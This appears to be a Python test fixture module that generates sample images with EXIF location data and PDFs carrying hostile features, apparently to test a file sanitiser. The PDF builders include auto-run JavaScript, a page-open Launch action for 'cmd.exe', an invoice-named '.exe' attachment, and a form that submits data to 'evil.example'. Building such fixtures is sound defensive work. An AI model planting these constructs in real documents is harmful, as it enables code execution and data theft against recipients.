"""Files as people send them, and as those do who mean harm."""

import io

import pikepdf
import pillow_heif
from PIL import Image

PLACE = "52 deg north"


def picture(kind="JPEG", size=(40, 20), **more):
    """A picture that says where and how it was taken, on its side."""
    exif = Image.Exif()
    exif[0x010E], exif[0x0112] = PLACE, 6
    out = io.BytesIO()
    if kind == "HEIF":
        pillow_heif.register_heif_opener()
    Image.new("RGB", size, "red").save(out, kind, exif=exif.tobytes(), **more)
    return out.getvalue()


def pdf(change=None, **save):
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **save)
    return out.getvalue()


def size_of(content):
    """Of a picture, in pixels."""
    with Image.open(io.BytesIO(content)) as opened:
        return opened.size


def script(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def named_script(made):
    action = made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="1"))
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", action]))


def program(made):
    made.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe"),
    )


def attachment(made):
    made.attachments["factuur.exe"] = b"MZ"


def form(made):
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=[])


def sent_elsewhere(made):
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget,
        Rect=[0, 0, 1, 1],
        A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example"),
    )
    made.pages[0].Annots = [note]
